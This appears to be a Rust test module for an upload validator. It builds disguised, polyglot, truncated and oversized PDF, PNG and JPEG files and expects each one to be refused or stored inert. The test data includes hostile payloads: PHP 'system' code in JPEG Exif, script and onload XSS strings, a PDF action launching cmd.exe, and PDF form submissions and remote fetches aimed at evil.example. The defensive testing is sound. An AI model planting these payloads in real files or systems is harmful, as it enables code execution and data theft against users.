//! The whole corpus: what is something else, what is two things, what breaks off, what is called
//! something else, and what is sound and bites only where it is opened.

use super::images::{flood, jpg, jpg_with, pdf, pdf_with, png, zip};
use super::{Case, Fate, JPG, PDF, PNG, bodies, case, names};
use Fate::{Inert, Refused, RefusedSomehow};

pub(super) fn all() -> Vec<Case> {
    let parts = [disguised(), two_at_once(), broken_off(), active(), names::all()];
    parts.into_iter().flatten().collect()
}

/// Everything that is not taken, called each of the kinds that are.
fn disguised() -> Vec<Case> {
    let mut all = Vec::new();
    for (what, bytes) in bodies::all() {
        for (name, declared) in [("a.pdf", PDF), ("a.png", PNG), ("a.jpg", JPG)] {
            let what = format!("{what} as {name}");
            all.push(case(what, (name, declared), &bytes, RefusedSomehow));
        }
    }
    all
}

/// Sound files with something else before, in or behind them.
fn two_at_once() -> Vec<Case> {
    let (pdf, png, jpg) = (pdf(), png(), jpg());
    let zip = zip("a.txt", 1, b"\x03\0");
    let script = b"<script>alert(1)</script>";
    let behind = |file: &[u8], gap: usize, rest: &[u8]| [file, &vec![b' '; gap], rest].concat();
    let text = [&png[..33], b"\0\0\0\x19tEXtComment\0", script, b"\0\0\0\0", &png[33..]].concat();
    [
        ("PDF and archive", "a.pdf", PDF, behind(&pdf, 0, &zip)),
        ("archive in a PDF", "a.pdf", PDF, [&pdf[..9], &zip, &pdf[9..]].concat()),
        ("PDF and, far behind, an archive", "a.pdf", PDF, behind(&pdf, 60_000, &zip)),
        ("PDF and a page", "a.pdf", PDF, behind(&pdf, 0, b"<html><body onload=alert(1)>")),
        (
            "a page in a PDF",
            "a.pdf",
            PDF,
            [&pdf[..9], b"%<HTML><svg onload=alert(1)>\n", &pdf[9..]].concat(),
        ),
        ("PDF and a long tail", "a.pdf", PDF, behind(&pdf, 2_000, b"tail")),
        ("PNG and archive", "a.png", PNG, behind(&png, 0, &zip)),
        ("PNG and PDF", "a.png", PNG, behind(&png, 0, &pdf)),
        ("PNG and script", "a.png", PNG, behind(&png, 0, script)),
        ("PNG with script in a text", "a.png", PNG, text),
        ("JPEG and archive", "a.jpg", JPG, behind(&jpg, 0, &zip)),
        ("JPEG and, far behind, an archive", "a.jpg", JPG, behind(&jpg, 60_000, &zip)),
        ("JPEG with script in a comment", "a.jpg", JPG, jpg_with(0xfe, script)),
        (
            "JPEG with PHP in its Exif",
            "a.jpg",
            JPG,
            jpg_with(0xe1, b"Exif\0\0<?php system('id'); ?>"),
        ),
        (
            "JPEG with a page in its Exif",
            "a.jpg",
            JPG,
            jpg_with(0xe1, b"Exif\0\0<IFRAME src=//evil.example>"),
        ),
        ("JPEG with a PDF in a comment", "a.jpg", JPG, jpg_with(0xfe, &pdf)),
    ]
    .map(|(what, name, declared, bytes)| case(what, (name, declared), &bytes, Refused("unsafe")))
    .into()
}

fn broken_off() -> Vec<Case> {
    let (pdf, png, jpg) = (pdf(), png(), jpg());
    let mut all = Vec::new();
    for (file, (name, declared), cuts) in [
        (&pdf, ("a.pdf", PDF), [5, 40, 100, pdf.len() - 6]),
        (&png, ("a.png", PNG), [8, 33, 50, png.len() - 1]),
        (&jpg, ("a.jpg", JPG), [3, 20, 25, jpg.len() - 1]),
    ] {
        for cut in cuts {
            let what = format!("{name} after {cut} bytes");
            all.push(case(what, (name, declared), &file[..cut], Refused("damaged")));
        }
        all.push(case(format!("{name} of nothing"), (name, declared), b"", Refused("empty")));
        let large = [&file[..20], &vec![b' '; 5 << 20], &file[20..]].concat();
        all.push(case(format!("{name} too large"), (name, declared), &large, Refused("too-big")));
    }
    all
}

/// What acts, or grows, in a program that opens it. We open nothing: it is kept and handed out whole.
fn active() -> Vec<Case> {
    let objects = [
        ("script", "<</S/JavaScript/JS(app.alert(1))>>"),
        ("an action at its opening", "<</OpenAction<</S/Launch/F(cmd.exe)>>>>"),
        ("a form that is sent", "<</S/SubmitForm/F(https://evil.example)>>"),
        ("an outer file", "<</S/GoToR/F(\\\\\\\\evil.example\\\\x)>>"),
        ("a file within", "<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"),
        (
            "a stream that grows",
            "<</Filter[/FlateDecode/FlateDecode/FlateDecode]/Length 2>>stream\nx\nendstream",
        ),
        ("objects in a circle", "<</Type/Pages/Parent 9 0 R/Kids[9 0 R]>>"),
    ];
    let mut all: Vec<_> = objects
        .map(|(what, object)| {
            case(format!("PDF with {what}"), ("a.pdf", PDF), &pdf_with(object), Inert)
        })
        .into();
    for side in [50_000, 1_000_000, u32::MAX] {
        all.push(case(format!("PNG of {side} pixels"), ("a.png", PNG), &flood(side), Inert));
    }
    let place = b"Exif\0\0GPS 35.6892 51.3890";
    all.push(case(
        "JPEG that says where it was taken",
        ("a.jpg", JPG),
        &jpg_with(0xe1, place),
        Inert,
    ));
    all
}
